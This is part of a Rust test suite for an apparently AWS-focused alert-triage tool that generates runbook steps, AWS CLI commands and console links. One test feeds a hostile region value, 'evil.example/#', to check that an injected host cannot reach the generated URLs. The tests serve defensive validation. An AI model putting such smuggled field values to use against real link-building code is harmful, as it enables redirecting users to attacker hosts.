                "tm(10%:90%)".to_owned()
            ])
        );
        assert_eq!(statistics_flag("weird"), None);
    }

    #[test]
    fn team_runbook_comes_first() {
        let alert = alarm_alert("AWS/Lambda", "Errors", &[]);
        let steps = runbook(
            Kind::ErrorSpike,
            &alert,
            &Correlation::default(),
            Some("https://wiki.example.com/runbooks/"),
        );
        assert_eq!(
            steps.first().and_then(|s| s.link.clone()).as_deref(),
            Some("https://wiki.example.com/runbooks/error_spike")
        );
        let templated = runbook(
            Kind::ErrorSpike,
            &alert,
            &Correlation::default(),
            Some("https://w/{kind}.md"),
        );
        assert_eq!(
            templated.first().and_then(|s| s.link.clone()).as_deref(),
            Some("https://w/error_spike.md")
        );
    }

    #[test]
    fn builtin_runbooks_load_and_every_kind_has_a_check() {
        let builtin =
            Runbooks::from_yaml(include_str!("runbooks.yaml")).expect("runbooks.yaml loads");
        assert_eq!(builtin, Runbooks::builtin());
        for kind in Kind::ALL {
            let playbooks = builtin.playbooks(kind);
            assert!(!playbooks.is_empty(), "{kind}: no playbooks");
            assert!(
                playbooks
                    .iter()
                    .any(|p| p.steps.iter().any(|s| s.action == StepAction::Check)),
                "{kind}: no check"
            );
            // The last playbook of every kind fits everything, so no alert is left stepless.
            assert_eq!(
                playbooks.last().map(|p| &p.when),
                Some(&When::default()),
                "{kind}: no catch-all playbook"
            );
            // Every situation-specific playbook but the plain lists gives a check and a fix.
            for (i, p) in playbooks.iter().enumerate() {
                let has = |a: StepAction| p.steps.iter().any(|s| s.action == a);
                assert!(has(StepAction::Check), "{kind}[{i}]: no check");
            }
        }
        // A kind's situations come with a console link and a fix where that makes sense.
        for kind in [
            Kind::ThrottleSpike,
            Kind::InjectionSurge,
            Kind::AccessDenied,
            Kind::AuditTampering,
            Kind::GuardrailChange,
            Kind::PermissionChange,
            Kind::PublicExposure,
            Kind::ConfigDrift,
        ] {
            let first = builtin.playbooks(kind).first().expect("a playbook");
            for action in [StepAction::Check, StepAction::Console, StepAction::Fix] {
                assert!(
                    first.steps.iter().any(|s| s.action == action),
                    "{kind}: first playbook has no {}",
                    action.as_str()
                );
            }
        }
        let alert = alarm_alert("AWS/Lambda", "Errors", &[]);
        for kind in Kind::ALL {
            assert!(
                !runbook(kind, &alert, &Correlation::default(), None).is_empty(),
                "{kind}"
            );
        }
    }

    fn load_err(yaml: &str) -> String {
        Runbooks::from_yaml(yaml).expect_err("refused").to_string()
    }

    #[test]
    fn bad_templates_are_refused_naming_where() {
        let unknown = load_err(
            "runbooks:\n  access_denied:\n    - steps:\n        - do: check\n          title: See the role\n          command: aws iam get-role --role-name {rol}\n",
        );
        assert!(
            unknown.starts_with("runbooks.access_denied[0].steps[0].command: unknown placeholder `{rol}` in step \"See the role\""),
            "{unknown}"
        );
        let in_title = load_err(
            "runbooks:\n  unknown:\n    - steps:\n        - do: console\n          title: Open {thing}\n          link: https://x.example/{region}\n",
        );
        assert!(
            in_title
                .starts_with("runbooks.unknown[0].steps[0].title: unknown placeholder `{thing}`"),
            "{in_title}"
        );
        let bad_do = load_err(
            "runbooks:\n  access_denied:\n    - steps:\n        - do: run\n          title: x\n          command: aws iam get-role --role-name {role}\n",
        );
        assert!(
            bad_do.contains("access_denied[0].steps[0].do")
                && bad_do.contains("unknown variant `run`"),
            "{bad_do}"
        );
        let empty =
            load_err("runbooks:\n  access_denied:\n    - when: {on: alarm}\n      steps: []\n");
        assert_eq!(
            empty,
            "runbooks.access_denied[0].steps: no steps; a playbook needs at least one"
        );
        let no_kind = load_err("runbooks:\n  acces_denied:\n    - steps: []\n");
        assert!(
            no_kind.starts_with(
                "runbooks.acces_denied: unknown kind `acces_denied`; expected one of throttle_spike,"
            ),
            "{no_kind}"
        );
        let writes = load_err(
            "runbooks:\n  audit_tampering:\n    - steps:\n        - do: check\n          title: Restart\n          command: aws cloudtrail start-logging --name {trail}\n",
        );
        assert!(
            writes.starts_with(
                "runbooks.audit_tampering[0].steps[0].command: a check must be a read-only"
            ),
            "{writes}"
        );
        let silent_fix = load_err(
            "runbooks:\n  audit_tampering:\n    - steps:\n        - do: fix\n          title: Restart logging\n          command: aws cloudtrail start-logging --name {trail}\n",
        );
        assert!(
            silent_fix.starts_with("runbooks.audit_tampering[0].steps[0].title: a fix step's title must say a person runs it"),
            "{silent_fix}"
        );
        let typo_field = load_err(
            "runbooks:\n  unknown:\n    - steps:\n        - do: check\n          title: x\n          comand: aws iam get-role\n",
        );
        assert!(
            typo_field.contains("unknown field `comand`"),
            "{typo_field}"
        );
        let gate = load_err(
            "runbooks:\n  unknown:\n    - steps:\n        - do: check\n          title: x\n          command: aws iam get-role --role-name {role}\n          only_if: rol\n",
        );
        assert!(
            gate.starts_with("runbooks.unknown[0].steps[0].only_if: unknown value `rol`"),
            "{gate}"
        );
        assert_eq!(Runbooks::from_yaml("").expect("empty"), Runbooks::default());
    }

    const USER_FILE: &str = "
runbooks:
  access_denied:
    - when:
        on: alarm
        namespace: AWS/Lambda
      steps:
        - do: check
          title: Our own check of {role}
          command: aws iam get-role --role-name {role}
        - do: fix
          title: Page the platform team (a person decides)
";

    #[test]
    fn a_user_playbook_is_tried_before_the_builtin_ones() {
        let set = Runbooks::builtin().extended_with(Runbooks::from_yaml(USER_FILE).expect("loads"));
        let alert = alarm_alert("AWS/Lambda", "Errors", &[("FunctionName", "tool-fn")]);
        let corr = Correlation {
            causes: vec![detach_cause()],
            ..Correlation::default()
        };
        let mine = steps(&[&set], Kind::AccessDenied, &alert, &corr, None);
        assert_eq!(
            mine.iter().map(|s| s.title.as_str()).collect::<Vec<_>>(),
            vec![
                "Our own check of tool-role",
                "Page the platform team (a person decides)"
            ]
        );
        // Where the user playbook does not fit, the built-in ones still apply.
        let bedrock = alarm_alert("AWS/Bedrock", "InvocationClientErrors", &[]);
        assert_eq!(
            steps(&[&set], Kind::AccessDenied, &bedrock, &corr, None),
            runbook(Kind::AccessDenied, &bedrock, &corr, None)
        );
        // Other kinds are untouched.
        assert_eq!(
            steps(&[&set], Kind::ErrorSpike, &alert, &corr, None),
            runbook(Kind::ErrorSpike, &alert, &corr, None)
        );
    }

    #[test]
    fn steps_carry_their_action_and_console_steps_need_their_values() {
        let alert = alarm_alert("AWS/Lambda", "Errors", &[("FunctionName", "tool-fn")]);
        let corr = Correlation {
            causes: vec![detach_cause()],
            ..Correlation::default()
        };
        let got = runbook(Kind::AccessDenied, &alert, &corr, None);
        assert_eq!(
            got.iter().map(|s| s.action).collect::<Vec<_>>(),
            vec![
                StepAction::Check,
                StepAction::Check,
                StepAction::Check,
                StepAction::Console,
                StepAction::Fix
            ]
        );
        let team = runbook(
            Kind::AccessDenied,
            &alert,
            &corr,
            Some("https://wiki.example.com"),
        );
        assert_eq!(team.first().map(|s| s.action), Some(StepAction::Console));
        assert!(got.iter().any(|s| s.link.as_deref()
            == Some("https://console.aws.amazon.com/iam/home#/roles/details/tool-role?section=permissions")));
        // No role known: the console step is left out rather than shown without a link.
        let none = runbook(
            Kind::AccessDenied,
            &alarm_alert("AWS/Lambda", "Errors", &[]),
            &Correlation::default(),
            None,
        );
        assert!(
            none.iter()
                .all(|s| s.command.is_some() || s.link.is_some() || s.title.contains("a person")),
            "{none:#?}"
        );
        assert!(!none.iter().any(|s| s.title.starts_with("Open the role")));
    }

    #[test]
    fn quota_code_from_the_alarm_tag_replaces_the_lookup() {
        let mut alert = alarm_alert(
            "AWS/Bedrock",
            "InvocationThrottles",
            &[("ModelId", "anthropic.claude-3-5-sonnet-20240620-v1:0")],
        );
        if let AlertBody::Alarm(a) = &mut alert.body {
            a.tags
                .insert(QUOTA_CODE_TAG.to_owned(), "L-254CACF4".to_owned());
        }
        let got = runbook(Kind::ThrottleSpike, &alert, &Correlation::default(), None);
        let cmds = commands(&got);
        assert!(cmds.contains(&"aws service-quotas get-service-quota --service-code bedrock --quota-code L-254CACF4 --region us-east-1".to_owned()), "{cmds:#?}");
        assert!(
            !cmds.iter().any(|c| c.contains("list-service-quotas")),
            "{cmds:#?}"
        );
        assert!(cmds.iter().any(|c| c.starts_with("aws service-quotas request-service-quota-increase --service-code bedrock --quota-code L-254CACF4")));
        assert!(
            got.iter()
                .any(|s| s.title == "Check the quota that throttles this model (L-254CACF4)")
        );
    }

    /// A demo situation (examples/demo) through the whole pipeline, with the example owners.
    fn demo(event: &str, trail: &[&str]) -> crate::pipeline::Report {
        use crate::enrich::{self, Context};
        let owners = crate::route::Owners::from_yaml(include_str!("../../../examples/owners.yaml"))
            .expect("owners");
        let settings = crate::pipeline::Settings::with_defaults(owners);
        let alert = crate::intake::parse(event.as_bytes())
            .expect("event")
            .remove(0);
        let changes = trail
            .iter()
            .flat_map(|t| crate::cloudtrail::parse_trail(t).expect("trail").changes)
            .collect();
        let window = enrich::window_for(alert.time, Duration::minutes(60));
        let ctx = Context::from_changes(
            window,
            alert.time + Duration::minutes(20),
            changes,
            enrich::sources_for(&alert),
        );
        crate::pipeline::evaluate(alert, &ctx, &settings, &crate::redact::Redactor::new())
    }

    macro_rules! demo_files {
        ($dir:literal, [$($file:literal),*]) => {
            demo(
                include_str!(concat!("../../../examples/demo/", $dir, "/event.json")),
                &[$(include_str!(concat!("../../../examples/demo/", $dir, "/trail/", $file))),*],
            )
        };
    }

    #[test]
    fn demo_detached_policy_steps_name_the_role_and_the_policy() {
        let report = demo_files!(
            "agent-tool-access-denied",
            [
                "111122223333_CloudTrail_us-east-1_20261120T0755Z_ygbKgosn3xv1abTa.json",
                "111122223333_CloudTrail_us-east-1_20261120T0850Z_jQNZgVrOh6KDl1DY.json",
                "111122223333_CloudTrail_us-east-1_20261120T0910Z_mSkMQyocPmboHpk6.json",
                "111122223333_CloudTrail_us-east-1_20261120T0915Z_GOS0k6uAdLPWknQQ.json"
            ]
        );
        assert_eq!(report.finding.kind, Kind::AccessDenied);
        let cmds = commands(&report.finding.runbook);
        assert!(
            cmds.contains(
                &"aws iam list-attached-role-policies --role-name agent-tool-order-lookup-role"
                    .to_owned()
            ),
            "{cmds:#?}"
        );
        assert!(cmds.contains(&"aws iam get-policy --policy-arn arn:aws:iam::111122223333:policy/order-lookup-secrets-read".to_owned()), "{cmds:#?}");
        assert!(cmds.contains(&"aws iam attach-role-policy --role-name agent-tool-order-lookup-role --policy-arn arn:aws:iam::111122223333:policy/order-lookup-secrets-read".to_owned()), "{cmds:#?}");
    }

    #[test]
    fn demo_injection_surge_steps_name_the_guardrail_and_both_versions() {
        let report = demo_files!(
            "assistant-injection-surge",
            [
                "111122223333_CloudTrail_us-east-1_20261120T1325Z_QqiPkg1qLwAuoedZ.json",
                "111122223333_CloudTrail_us-east-1_20261120T1400Z_9QUs2WbosgFAGTJL.json",
                "111122223333_CloudTrail_us-east-1_20261120T1415Z_TqD2kYLmqWPbiu4P.json",
                "111122223333_CloudTrail_us-east-1_20261120T1435Z_gNjxpWYDCTqhs99A.json"
            ]
        );
        assert_eq!(report.finding.kind, Kind::InjectionSurge);
        let cmds = commands(&report.finding.runbook);
        let filter = "--query \"contentPolicy.filters[?type=='PROMPT_ATTACK']\" --region us-east-1";
        assert!(cmds.contains(&format!("aws bedrock get-guardrail --guardrail-identifier gr7x2k9p4q1m --guardrail-version 3 {filter}")), "{cmds:#?}");
        assert!(cmds.contains(&format!("aws bedrock get-guardrail --guardrail-identifier gr7x2k9p4q1m --guardrail-version 2 {filter}")), "{cmds:#?}");
        let titles: Vec<&str> = report
            .finding
            .runbook
            .iter()
            .map(|s| s.title.as_str())
            .collect();
        assert!(
            titles
                .iter()
                .any(|t| t.starts_with("Compare with the previous version, 2")),
            "{titles:#?}"
        );
        assert!(
            titles
                .iter()
                .any(|t| t.contains("point the application back at version 2")),
            "{titles:#?}"
        );
    }

    #[test]
    fn demo_bedrock_throttling_steps_name_the_model_and_check_the_quota() {
        let report = demo_files!(
            "bedrock-throttling-capacity",
            [
                "111122223333_CloudTrail_us-east-1_20261120T1640Z_lIF6uR2JAzbgCXX4.json",
                "111122223333_CloudTrail_us-east-1_20261120T1710Z_ukt5tKTgH1ZhohdS.json",
                "111122223333_CloudTrail_us-east-1_20261120T1720Z_TxhyYCY0Cyd0KWmU.json",
                "111122223333_CloudTrail_us-east-1_20261120T1735Z_IGDp1yT8Aibq88iM.json",
                "111122223333_CloudTrail_us-east-1_20261120T1750Z_1uufXctBXB1ohsw2.json"
            ]
        );
        assert_eq!(report.finding.kind, Kind::ThrottleSpike);
        let cmds = commands(&report.finding.runbook);
        assert!(
            cmds.iter().any(|c| c.contains(
                "--dimensions Name=ModelId,Value=anthropic.claude-3-5-sonnet-20240620-v1:0"
            )),
            "{cmds:#?}"
        );
        assert!(cmds.contains(&"aws service-quotas list-service-quotas --service-code bedrock --query \"Quotas[?contains(QuotaName, 'requests per minute')].[QuotaName,QuotaCode,Value]\" --output table --region us-east-1".to_owned()), "{cmds:#?}");
        assert!(cmds.iter().any(|c| c.starts_with("aws service-quotas request-service-quota-increase --service-code bedrock --quota-code '<quota-code>'")), "{cmds:#?}");
    }

    #[test]
    fn config_drift_steps_name_rule_and_resource() {
        let alert = Alert {
            id: "c".to_owned(),
            input: InputFamily::Config,
            account: Some("123456789012".to_owned()),
            region: Some("us-east-1".to_owned()),
            time: t0(),
            body: AlertBody::Config(ConfigChange {
                change: ConfigChangeKind::ComplianceChange,
                rule_name: Some("restricted-ssh".to_owned()),
                resource_type: Some("AWS::EC2::SecurityGroup".to_owned()),
                resource_id: Some("sg-0abc".to_owned()),
                resource_name: None,
                compliance: Some("NON_COMPLIANT".to_owned()),
                previous_compliance: Some("COMPLIANT".to_owned()),
                change_type: None,
                changed_properties: Vec::new(),
            }),
        };
        let cmds = commands(&runbook(
            Kind::ConfigDrift,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert!(cmds.iter().any(|c| {
            c.contains("--config-rule-name restricted-ssh --compliance-types NON_COMPLIANT")
        }));
        assert!(
            cmds.iter().any(
                |c| c.contains("--resource-type AWS::EC2::SecurityGroup --resource-id sg-0abc")
            )
        );
        assert!(
            cmds.iter()
                .any(|c| c.starts_with("aws configservice start-remediation-execution"))
        );
        let mut compliant = alert.clone();
        if let AlertBody::Config(c) = &mut compliant.body {
            c.compliance = Some("COMPLIANT".to_owned());
        }
        let after = commands(&runbook(
            Kind::ConfigDrift,
            &compliant,
            &Correlation::default(),
            None,
        ));
        assert!(
            !after
                .iter()
                .any(|c| c.contains("remediation") || c.contains("NON_COMPLIANT")),
            "{after:#?}"
        );
        let links = links(&alert, &Correlation::default());
        assert!(links.iter().any(|l| l.url == "https://us-east-1.console.aws.amazon.com/config/home?region=us-east-1#/rules/details?configRuleName=restricted-ssh"));
    }

    #[test]
    fn links_cover_alarm_cause_role_and_function() {
        let alert = alarm_alert("AWS/Lambda", "Errors", &[("FunctionName", "tool-fn")]);
        let corr = Correlation {
            causes: vec![detach_cause()],
            resource_roles: ["arn:aws:iam::123456789012:role/tool-role".to_owned()]
                .into_iter()
                .collect(),
            ..Correlation::default()
        };
        let urls: Vec<String> = links(&alert, &corr).into_iter().map(|l| l.url).collect();
        assert_eq!(
            urls,
            vec![
                "https://us-east-1.console.aws.amazon.com/cloudwatch/home?region=us-east-1#alarmsV2:alarm/tool%20errors%20%2F%20prod".to_owned(),
                "https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/9d8e7f60-aaaa-bbbb-cccc-ddddeeeeffff".to_owned(),
                "https://console.aws.amazon.com/iam/home#/roles/details/tool-role".to_owned(),
                "https://us-east-1.console.aws.amazon.com/lambda/home?region=us-east-1#/functions/tool-fn".to_owned(),
            ]
        );
    }

    #[test]
    fn links_for_a_guardrail_call_and_a_bad_region() {
        let alert = api_alert(
            "bedrock.amazonaws.com",
            "UpdateGuardrail",
            &[
                ("guardrailIdentifier", "cmy5azq5koeo"),
                ("name", "HIDDEN_DUE_TO_SECURITY_REASONS"),
            ],
        );
        let urls: Vec<String> = links(&alert, &Correlation::default())
            .into_iter()
            .map(|l| l.url)
            .collect();
        assert!(urls.contains(&"https://eu-west-1.console.aws.amazon.com/bedrock/home?region=eu-west-1#/guardrails".to_owned()), "{urls:#?}");
        assert!(
            urls.iter()
                .any(|u| u.ends_with("#/events/3f1c0a2e-1111-2222-3333-444455556666"))
        );

        let mut evil = alert.clone();
        evil.region = Some("evil.example/#".to_owned());
        if let AlertBody::ApiCall(c) = &mut evil.body {
            c.region = None;
        }
        let urls: Vec<String> = links(&evil, &Correlation::default())
            .into_iter()
            .map(|l| l.url)
            .collect();
        assert!(urls.iter().all(|u| !u.contains("evil")), "{urls:#?}");
    }
}
